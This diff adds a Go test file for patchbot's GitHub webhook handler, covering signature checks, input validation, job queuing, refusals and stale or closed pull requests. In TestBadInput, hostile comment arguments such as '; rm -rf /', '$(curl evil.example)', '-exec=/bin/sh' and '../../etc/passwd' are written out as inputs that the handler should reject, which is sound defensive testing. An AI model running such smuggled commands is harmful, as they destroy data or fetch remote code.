@@ -1,0 +1,589 @@
+package serve
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"fmt"
+	"log/slog"
+	"net/http"
+	"net/http/httptest"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/patchbot/patchbot/bot/command"
+	"github.com/patchbot/patchbot/bot/queue"
+	"github.com/patchbot/patchbot/job"
+	"github.com/patchbot/patchbot/step/review"
+	"github.com/patchbot/patchbot/step/review/reviewtest"
+)
+
+var testSecret = []byte("It's a Secret to Everybody")
+
+// The fixture: pull request gopher/codec#7 at head1; alice may write,
+// bob may read, tom may nothing but is trusted by the configuration.
+const (
+	head1 = "9f2c4b7e1d3a5c6b8e0f1a2b3c4d5e6f7a8b9c0d"
+	head2 = "5a295b08adeb1b23f1b7d1a0d49e2c1e5b4f6a7c"
+)
+
+// testNow is the clock of the tests: comments are written at it.
+var testNow = time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)
+
+type env struct {
+	t    *testing.T
+	gh   *reviewtest.GitHub
+	q    *queue.Queue
+	h    *Handler
+	cfg  Config
+	jobs chan *queue.Job // the jobs the queue's handler was given, when started
+}
+
+// newEnv makes a handler on a real SQLite queue in t.TempDir() and the
+// fake GitHub. With work, the queue is started and its handler sends each
+// job it is given to env.jobs.
+func newEnv(t testing.TB, work bool, mod func(*Config)) *env {
+	tt, _ := t.(*testing.T)
+	e := &env{t: tt, jobs: make(chan *queue.Job, 100)}
+	e.gh = reviewtest.NewGitHub("gopher/codec")
+	t.Cleanup(func() {
+		e.gh.Close()
+		if s := e.gh.Stray(); len(s) > 0 {
+			t.Errorf("requests outside the API prefix: %v", s)
+		}
+	})
+	e.gh.SetPermission("alice", "write")
+	e.gh.SetPermission("bob", "read")
+	e.gh.SetHead(7, head1)
+
+	opts := &queue.Options{Logger: slog.New(slog.NewTextHandler(t.Output(), &slog.HandlerOptions{Level: slog.LevelWarn}))}
+	if work {
+		opts.Handler = func(ctx context.Context, j *queue.Job) error {
+			e.jobs <- j
+			return nil
+		}
+	}
+	q, err := queue.Open(t.Context(), "sqlite:"+filepath.Join(t.TempDir(), "queue.db"), opts)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() {
+		ctx, cancel := context.WithTimeout(context.WithoutCancel(t.Context()), 2*time.Minute)
+		defer cancel()
+		if err := q.Stop(ctx); err != nil {
+			t.Errorf("Stop (hung, if the context ended after two minutes): %v", err)
+		}
+	})
+	if work {
+		if err := q.Start(t.Context()); err != nil {
+			t.Fatal(err)
+		}
+	}
+	e.q = q
+	gh, err := review.NewGitHub(&review.GitHubAuth{Token: reviewtest.Token, APIURL: e.gh.URL}, review.Options{
+		Policy: review.Policy{Attempts: 2, Backoff: time.Millisecond, MaxWait: time.Second},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	e.cfg = Config{
+		Secret: testSecret,
+		Queue:  q,
+		GitHub: gh,
+		Trust:  command.Trust{GitHubSelf: "patchbot-bot", GitHubTrusted: []string{"tom"}},
+		Logger: slog.New(slog.NewTextHandler(t.Output(), nil)),
+		Now:    func() time.Time { return testNow.Add(time.Second) },
+	}
+	if _, ok := t.(*testing.B); ok {
+		e.cfg.Logger = nil
+	}
+	if mod != nil {
+		mod(&e.cfg)
+	}
+	e.h, err = New(e.cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return e
+}
+
+// A comment is an issue_comment event's fields that tests vary.
+type comment struct {
+	Action   string // "": created
+	PR       int    // 0: 7
+	Issue    bool   // on an issue, not a pull request
+	ID       int64  // 0: 1000+PR
+	Login    string // "": alice
+	UserType string // "": User
+	Body     string
+	Repo     string    // "": gopher/codec
+	At       time.Time // zero: testNow
+}
+
+func (c comment) payload() []byte {
+	if c.Action == "" {
+		c.Action = "created"
+	}
+	if c.PR == 0 {
+		c.PR = 7
+	}
+	if c.ID == 0 {
+		c.ID = 1000 + int64(c.PR)
+	}
+	if c.Login == "" {
+		c.Login = "alice"
+	}
+	if c.UserType == "" {
+		c.UserType = "User"
+	}
+	if c.Repo == "" {
+		c.Repo = "gopher/codec"
+	}
+	if c.At.IsZero() {
+		c.At = testNow
+	}
+	issue := map[string]any{"number": c.PR, "title": "codec: fast path"}
+	if !c.Issue {
+		issue["pull_request"] = map[string]any{"url": "https://api.github.example/repos/" + c.Repo + fmt.Sprintf("/pulls/%d", c.PR)}
+	}
+	user := map[string]any{"login": c.Login, "type": c.UserType}
+	data, err := json.Marshal(map[string]any{
+		"action": c.Action,
+		"issue":  issue,
+		"comment": map[string]any{
+			"id": c.ID, "body": c.Body, "user": user,
+			"created_at": c.At.Format(time.RFC3339), "updated_at": c.At.Format(time.RFC3339),
+		},
+		"repository": map[string]any{"full_name": c.Repo, "name": strings.Split(c.Repo, "/")[len(strings.Split(c.Repo, "/"))-1]},
+		"sender":     user,
+	})
+	if err != nil {
+		panic(err)
+	}
+	return data
+}
+
+// request is a delivery as GitHub makes it: signed with testSecret.
+func request(delivery, event string, body []byte) *http.Request {
+	r := httptest.NewRequest("POST", "/webhook/github", bytes.NewReader(body))
+	r.Header.Set("Content-Type", "application/json")
+	r.Header.Set("User-Agent", "GitHub-Hookshot/abc123")
+	r.Header.Set(headerEvent, event)
+	r.Header.Set(headerDelivery, delivery)
+	r.Header.Set(headerSignature, Sign(testSecret, body))
+	return r
+}
+
+func (e *env) serve(r *http.Request) *httptest.ResponseRecorder {
+	w := httptest.NewRecorder()
+	e.h.ServeHTTP(w, r)
+	return w
+}
+
+// deliver delivers a comment and checks the answer's status.
+func (e *env) deliver(delivery string, c comment, want int) string {
+	e.t.Helper()
+	w := e.serve(request(delivery, "issue_comment", c.payload()))
+	if w.Code != want {
+		e.t.Errorf("delivery %s (%q by %s): %d %s; want %d", delivery, c.Body, c.Login, w.Code, strings.TrimSpace(w.Body.String()), want)
+	}
+	return w.Body.String()
+}
+
+// identities returns the jobs in the queue as "command review @ revision",
+// sorted.
+func (e *env) identities(t testing.TB) []string {
+	t.Helper()
+	jobs, err := e.q.Jobs(t.Context(), 10000)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var ids []string
+	for _, j := range jobs {
+		ids = append(ids, j.Command+" "+j.Review+" @ "+j.Revision)
+	}
+	slices.Sort(ids)
+	return ids
+}
+
+func (e *env) wantJobs(want ...string) {
+	e.t.Helper()
+	slices.Sort(want)
+	if got := e.identities(e.t); !slices.Equal(got, want) {
+		e.t.Errorf("jobs in the queue:\n\t%s\nwant:\n\t%s", strings.Join(got, "\n\t"), strings.Join(want, "\n\t"))
+	}
+}
+
+// recv waits for the queue to hand its handler a job.
+func (e *env) recv() *queue.Job {
+	e.t.Helper()
+	select {
+	case j := <-e.jobs:
+		return j
+	case <-time.After(2 * time.Minute):
+		e.t.Fatal("hung: no job was worked within two minutes")
+		return nil
+	}
+}
+
+func TestNewRefuses(t *testing.T) {
+	e := newEnv(t, false, nil)
+	for name, mod := range map[string]func(*Config){
+		"no secret":    func(c *Config) { c.Secret = nil },
+		"empty secret": func(c *Config) { c.Secret = []byte{} },
+		"no queue":     func(c *Config) { c.Queue = nil },
+		"no GitHub":    func(c *Config) { c.GitHub = nil },
+		"negative cap": func(c *Config) { c.MaxBody = -1 },
+	} {
+		cfg := e.cfg
+		mod(&cfg)
+		if h, err := New(cfg); err == nil || h != nil {
+			t.Errorf("%s: New = %v, %v; want an error", name, h, err)
+		}
+	}
+	cfg := e.cfg
+	cfg.Secret = nil
+	if _, err := New(cfg); err == nil || !strings.Contains(err.Error(), EnvWebhookSecret) {
+		t.Errorf("no secret: %v; want it to name %s", err, EnvWebhookSecret)
+	}
+}
+
+// TestSignature: a delivery counts only with a SHA-256 signature, made
+// with the secret, over the exact body.
+func TestSignature(t *testing.T) {
+	e := newEnv(t, false, nil)
+	body := comment{Body: "/patchbot bench"}.payload()
+	for _, tc := range []struct {
+		name string
+		set  func(r *http.Request)
+		want int
+	}{
+		{"missing", func(r *http.Request) { r.Header.Del(headerSignature) }, 401},
+		{"sha1 only", func(r *http.Request) {
+			r.Header.Del(headerSignature)
+			r.Header.Set(headerSignatureSHA, "sha1=0123456789abcdef0123456789abcdef01234567")
+		}, 401},
+		{"sha1 in the sha256 header", func(r *http.Request) {
+			r.Header.Set(headerSignature, "sha1=0123456789abcdef0123456789abcdef01234567")
+		}, 401},
+		{"not hex", func(r *http.Request) { r.Header.Set(headerSignature, "sha256="+strings.Repeat("zz", 32)) }, 401},
+		{"short", func(r *http.Request) { r.Header.Set(headerSignature, "sha256=abcd") }, 401},
+		{"other secret", func(r *http.Request) { r.Header.Set(headerSignature, Sign([]byte("guess"), body)) }, 401},
+		{"empty secret", func(r *http.Request) { r.Header.Set(headerSignature, Sign(nil, body)) }, 401},
+		{"other body", func(r *http.Request) { r.Header.Set(headerSignature, Sign(testSecret, append(body, ' '))) }, 401},
+		{"upper-case hex", func(r *http.Request) {
+			r.Header.Set(headerSignature, "sha256="+strings.ToUpper(strings.TrimPrefix(Sign(testSecret, body), "sha256=")))
+		}, 202},
+	} {
+		r := request("sig-"+strings.ReplaceAll(tc.name, " ", "-"), "issue_comment", body)
+		tc.set(r)
+		if w := e.serve(r); w.Code != tc.want {
+			t.Errorf("%s: %d %s; want %d", tc.name, w.Code, w.Body, tc.want)
+		}
+	}
+	// Only the right signature reached GitHub and the queue.
+	e.wantJobs("bench github:gopher/codec#7 @ " + head1)
+	if n := len(e.gh.Requests()); n != 2 {
+		t.Errorf("%d requests to GitHub (%q); want 2, for the one signed delivery", n, e.gh.Requests())
+	}
+}
+
+// TestBadInput: every kind of bad delivery gets a clear 4xx (or, for a
+// command not understood, a help reply), and never a job.
+func TestBadInput(t *testing.T) {
+	e := newEnv(t, false, func(c *Config) { c.MaxBody = 4096 })
+	good := comment{Body: "/patchbot bench"}.payload()
+	big := comment{Body: strings.Repeat("x", 5000)}.payload()
+	for _, tc := range []struct {
+		name  string
+		event string
+		body  []byte
+		set   func(r *http.Request)
+		want  int
+	}{
+		{"form content type", "issue_comment", good, func(r *http.Request) {
+			r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+		}, 415},
+		{"no content type", "issue_comment", good, func(r *http.Request) { r.Header.Del("Content-Type") }, 415},
+		{"bad content type", "issue_comment", good, func(r *http.Request) { r.Header.Set("Content-Type", "application/json; =;") }, 415},
+		{"json with charset", "ping", []byte(`{"zen":"Keep it logically awesome."}`), func(r *http.Request) {
+			r.Header.Set("Content-Type", "application/json; charset=utf-8")
+		}, 200},
+		{"oversized", "issue_comment", big, nil, 413},
+		{"malformed JSON", "issue_comment", []byte(`{"action": "created", `), nil, 400},
+		{"JSON array", "issue_comment", []byte(`[1, 2]`), nil, 400},
+		{"wrong types", "issue_comment", []byte(`{"action": 1}`), nil, 400},
+		{"empty object", "issue_comment", []byte(`{}`), nil, 400},
+		{"no comment", "issue_comment", []byte(`{"action":"created","issue":{"number":7,"pull_request":{}},"repository":{"full_name":"gopher/codec"}}`), nil, 400},
+		{"hostile repository", "issue_comment", comment{Repo: "../../etc", Body: "/patchbot bench"}.payload(), nil, 400},
+		{"negative issue", "issue_comment", comment{PR: -3, Body: "/patchbot bench"}.payload(), nil, 400},
+		{"huge issue number", "issue_comment", comment{PR: 1 << 40, Body: "/patchbot bench"}.payload(), nil, 400},
+		{"no delivery", "issue_comment", good, func(r *http.Request) { r.Header.Del(headerDelivery) }, 400},
+		{"hostile delivery", "issue_comment", good, func(r *http.Request) { r.Header.Set(headerDelivery, "x\" level=ERROR msg=pwned") }, 400},
+		{"long delivery", "issue_comment", good, func(r *http.Request) { r.Header.Set(headerDelivery, strings.Repeat("a", 65)) }, 400},
+		{"no event", "", good, nil, 400},
+		{"hostile event", "issue_comment\nx", good, nil, 400},
+		{"unknown event", "push", []byte(`{"ref":"refs/heads/master"}`), nil, 200},
+		{"not JSON for an unknown event", "star", []byte(`not json`), nil, 200},
+	} {
+		r := request("bad-"+strings.ReplaceAll(tc.name, " ", "-"), tc.event, tc.body)
+		if tc.set != nil {
+			tc.set(r)
+		}
+		w := e.serve(r)
+		if w.Code != tc.want {
+			t.Errorf("%s: %d %s; want %d", tc.name, w.Code, w.Body, tc.want)
+		}
+		if w.Code >= 400 && len(strings.TrimSpace(w.Body.String())) < 10 {
+			t.Errorf("%s: answer %q does not say what is wrong", tc.name, w.Body)
+		}
+	}
+	for _, m := range []string{"GET", "PUT", "DELETE"} {
+		r := request("bad-method-"+m, "issue_comment", good)
+		r.Method = m
+		if w := e.serve(r); w.Code != http.StatusMethodNotAllowed {
+			t.Errorf("%s /webhook/github: %d; want 405", m, w.Code)
+		}
+	}
+	if w := e.serve(httptest.NewRequest("GET", "/webhook/gitlab", nil)); w.Code != 404 {
+		t.Errorf("GET /webhook/gitlab: %d; want 404", w.Code)
+	}
+	e.wantJobs()
+	if r := e.gh.Requests(); len(r) > 0 {
+		t.Errorf("bad deliveries made requests to GitHub: %q", r)
+	}
+
+	// Commands with hostile arguments from someone who may ask: one help
+	// reply each, never a bench job.
+	var want []string
+	for i, body := range []string{
+		"/patchbot bench -count 1000000",
+		"/patchbot bench -bench (",
+		"/patchbot bench ../../etc/passwd",
+		"/patchbot bench ./codec; rm -rf /",
+		"/patchbot bench $(curl evil.example)",
+		"/patchbot bench -exec=/bin/sh",
+		"/patchbot rm -rf",
+		"/patchbot bench\n/patchbot freeze",
+		"/patchbot bench \x00",
+	} {
+		id := int64(5000 + i)
+		e.deliver(fmt.Sprintf("hostile-%d", i), comment{ID: id, Body: body}, 202)
+		want = append(want, fmt.Sprintf("help github:gopher/codec#7 @ comment:%d", id))
+	}
+	e.wantJobs(want...)
+	if n := e.gh.Count("GET /api/v3/repos/gopher/codec/pulls/"); n != 0 {
+		t.Errorf("%d reads of the pull request's head for commands that do not run", n)
+	}
+}
+
+// TestIgnored: comments that are not commands to run get a 200 that says
+// why, and cost no job and no request to GitHub.
+func TestIgnored(t *testing.T) {
+	e := newEnv(t, false, nil)
+	for i, c := range []comment{
+		{Action: "edited", Body: "/patchbot bench"},
+		{Action: "deleted", Body: "/patchbot bench"},
+		{Issue: true, Body: "/patchbot bench"},
+		{Login: "dependabot[bot]", UserType: "Bot", Body: "/patchbot bench"},
+		{Login: "renovate", UserType: "Bot", Body: "/patchbot bench"},
+		{Login: "patchbot-bot", Body: "/patchbot bench"},
+		{Login: "Patchbot-Bot", Body: "/patchbot help"},
+		{Body: "LGTM, thanks"},
+		{Body: "> /patchbot bench\nthat is what bob asked"},
+		{Body: "    /patchbot bench"},
+		{Body: "see /patchbot bench in the docs"},
+	} {
+		body := e.deliver(fmt.Sprintf("ignored-%d", i), c, 200)
+		if !strings.HasPrefix(body, "ignored: ") {
+			t.Errorf("%+v: answer %q; want ignored: and why", c, body)
+		}
+	}
+	e.wantJobs()
+	if r := e.gh.Requests(); len(r) > 0 {
+		t.Errorf("ignored comments made requests to GitHub: %q", r)
+	}
+}
+
+// TestEndToEnd: a reviewer's command becomes one job on the real queue,
+// bound to the pull request's head when it was written; a redelivery, a
+// restart and another comment asking the same add nothing; a push makes a
+// new command a new job.
+func TestEndToEnd(t *testing.T) {
+	e := newEnv(t, true, nil)
+	if w := e.serve(request("d-ping", "ping", []byte(`{"zen":"Design for failure.","hook_id":1}`))); w.Code != 200 {
+		t.Fatalf("ping: %d %s", w.Code, w.Body)
+	}
+	c := comment{ID: 42, Body: "Thanks!\n\n/patchbot bench -count 5 ./codec\n"}
+	if body := e.deliver("d-1", c, 202); !strings.HasPrefix(body, "queued job ") {
+		t.Errorf("answer %q", body)
+	}
+	j := e.recv()
+	want := queue.Args{
+		Review:   "github:gopher/codec#7",
+		Revision: head1,
+		Command:  "bench",
+		Who:      "alice",
+		Delivery: "d-1",
+		Request: job.Request{
+			Steps:  []string{job.StepBench, job.StepPost},
+			Bench:  job.BenchSettings{Count: 5, Packages: []string{"./codec"}},
+			GitHub: &job.GitHub{PullRequest: "gopher/codec#7", HeadSHA: head1},
+		},
+	}
+	if got, _ := json.Marshal(j.Args); string(got) != string(must(json.Marshal(want))) {
+		t.Errorf("queued\n\t%s\nwant\n\t%s", got, must(json.Marshal(want)))
+	}
+	if got := e.gh.Requests(); !slices.Equal(got, []string{
+		"GET /api/v3/repos/gopher/codec/collaborators/alice/permission",
+		"GET /api/v3/repos/gopher/codec/pulls/7",
+	}) {
+		t.Errorf("requests to GitHub: %q", got)
+	}
+
+	// The same delivery again: remembered, nothing read, nothing queued.
+	n := len(e.gh.Requests())
+	if body := e.deliver("d-1", c, 200); !strings.HasPrefix(body, "redelivery") {
+		t.Errorf("redelivery: %q", body)
+	}
+	if len(e.gh.Requests()) != n {
+		t.Errorf("a redelivery read GitHub: %q", e.gh.Requests()[n:])
+	}
+	// After a restart (a new handler on the same queue), the queue's
+	// uniqueness makes it a duplicate.
+	h2, err := New(e.cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	w := httptest.NewRecorder()
+	h2.ServeHTTP(w, request("d-1", "issue_comment", c.payload()))
+	if w.Code != 200 || !strings.HasPrefix(w.Body.String(), fmt.Sprintf("duplicate of job %d", j.ID)) {
+		t.Errorf("redelivery after a restart: %d %s", w.Code, w.Body)
+	}
+	// Another reviewer asking the same on the same head: the same job.
+	e.deliver("d-2", comment{ID: 43, Login: "tom", Body: "/patchbot bench"}, 200)
+	// A push, then a command: a new job at the new head; the old job
+	// stays bound to the old one.
+	e.gh.SetHead(7, head2)
+	e.deliver("d-3", comment{ID: 44, Body: "/patchbot bench"}, 202)
+	if j := e.recv(); j.Args.Revision != head2 || j.Args.Request.GitHub.HeadSHA != head2 || j.Args.Who != "alice" {
+		t.Errorf("after the push: %+v", j.Args)
+	}
+	// freeze is a job too.
+	e.deliver("d-4", comment{ID: 45, Login: "tom", Body: "/patchbot freeze"}, 202)
+	if j := e.recv(); j.Args.Command != "freeze" || !slices.Equal(j.Args.Request.Steps, []string{job.StepFreeze, job.StepPost}) || j.Args.Who != "tom" {
+		t.Errorf("freeze: %+v", j.Args)
+	}
+	e.wantJobs(
+		"bench github:gopher/codec#7 @ "+head1,
+		"bench github:gopher/codec#7 @ "+head2,
+		"freeze github:gopher/codec#7 @ "+head2,
+	)
+	// tom is trusted by the configuration: his permission was not read.
+	if n := e.gh.Count("GET /api/v3/repos/gopher/codec/collaborators/tom/"); n != 0 {
+		t.Errorf("tom's permission read %d times", n)
+	}
+}
+
+// TestReplies: help and the refusal are jobs that post one text, once.
+func TestReplies(t *testing.T) {
+	e := newEnv(t, true, nil)
+
+	e.deliver("r-1", comment{ID: 50, Login: "bob", Body: "/patchbot bench"}, 202)
+	j := e.recv()
+	if a := j.Args; a.Command != CommandRefuse || a.Revision != "login:bob" || a.Who != "bob" ||
+		!slices.Equal(a.Request.Steps, []string{job.StepPost}) || a.Request.Post.Kind != "refusal-bob" ||
+		!strings.HasPrefix(a.Request.Post.Text, "Sorry, patchbot runs commands only for the project's reviewers") ||
+		a.Request.GitHub == nil || a.Request.GitHub.PullRequest != "gopher/codec#7" || a.Request.GitHub.HeadSHA != "" {
+		t.Errorf("refusal: %+v", a)
+	}
+	if err := j.Args.Request.Validate(); err != nil {
+		t.Errorf("refusal's request: %v", err)
+	}
+	// bob again, with anything at all: no second refusal. A stranger's
+	// malformed command gets the refusal, not the help.
+	e.deliver("r-2", comment{ID: 51, Login: "bob", Body: "/patchbot bench -count 1000000"}, 200)
+	e.deliver("r-3", comment{ID: 52, Login: "mallory", Body: "/patchbot nope"}, 202)
+	if j := e.recv(); j.Args.Command != CommandRefuse || j.Args.Request.Post.Kind != "refusal-mallory" {
+		t.Errorf("mallory: %+v", j.Args)
+	}
+
+	e.deliver("r-4", comment{ID: 53, Body: "/patchbot help"}, 202)
+	j = e.recv()
+	if a := j.Args; a.Command != CommandHelp || a.Revision != "comment:53" || a.Request.Post.Kind != "help-53" || a.Request.Post.Text != command.Help() {
+		t.Errorf("help: %+v", a)
+	}
+	e.deliver("r-5", comment{ID: 54, Body: "/patchbot bench -count 0"}, 202)
+	if a := e.recv().Args; a.Command != CommandHelp || !strings.HasPrefix(a.Request.Post.Text, "patchbot did not run that: line 1: /patchbot bench: ") {
+		t.Errorf("help for a bad command: %+v", a)
+	}
+	if n := e.gh.Count("GET /api/v3/repos/gopher/codec/pulls/"); n != 0 {
+		t.Errorf("replies read the pull request's head %d times", n)
+	}
+	if n := e.gh.Count("POST ") + e.gh.Count("PATCH "); n != 0 {
+		t.Errorf("the webhook wrote to GitHub %d times: replies are the workers'", n)
+	}
+}
+
+// TestLookupFails: when GitHub does not answer, the delivery fails with a
+// 502 that GitHub's log shows, nothing is queued, and a redelivery once
+// GitHub answers does the work.
+func TestLookupFails(t *testing.T) {
+	e := newEnv(t, false, nil)
+	for i, path := range []string{"/permission", "/pulls/7"} {
+		e.gh.SetFault(func(w http.ResponseWriter, r *http.Request) bool {
+			if strings.HasSuffix(r.URL.Path, path) {
+				http.Error(w, `{"message":"boom"}`, http.StatusInternalServerError)
+				return true
+			}
+			return false
+		})
+		e.deliver(fmt.Sprint("f-", i), comment{Body: "/patchbot bench"}, 502)
+		e.wantJobs()
+	}
+	e.gh.SetFault(nil)
+	e.deliver("f-1", comment{Body: "/patchbot bench"}, 202)
+	e.wantJobs("bench github:gopher/codec#7 @ " + head1)
+
+	// A pull request that is not there any more.
+	e.deliver("f-gone", comment{PR: 8, Body: "/patchbot bench"}, 502)
+}
+
+// TestStale: a command written longer ago than MaxCommentAge is not bound
+// to today's head.
+func TestStale(t *testing.T) {
+	e := newEnv(t, false, nil)
+	body := e.deliver("s-1", comment{Body: "/patchbot bench", At: testNow.Add(-time.Hour)}, 200)
+	if !strings.Contains(body, "ask again") {
+		t.Errorf("stale: %q", body)
+	}
+	e.wantJobs()
+	if n := e.gh.Count("GET /api/v3/repos/gopher/codec/pulls/"); n != 0 {
+		t.Errorf("a stale command read the head")
+	}
+}
+
+func must[T any](v T, err error) T {
+	if err != nil {
+		panic(err)
+	}
+	return v
+}
+
+// TestClosed: a command on a pull request closed, or merged, since the
+// comment was written runs nothing.
+func TestClosed(t *testing.T) {
+	e := newEnv(t, false, nil)
+	e.gh.SetHead(8, head2)
+	e.gh.ClosePullRequest(7)
+	e.gh.MergePullRequest(8)
+	for _, pr := range []int{7, 8} {
+		if body := e.deliver(fmt.Sprint("c-", pr), comment{PR: pr, Body: "/patchbot bench"}, 200); !strings.HasPrefix(body, "ignored: the pull request is closed") {
+			t.Errorf("#%d closed: %q", pr, body)
+		}
+	}
+	e.wantJobs()
+}
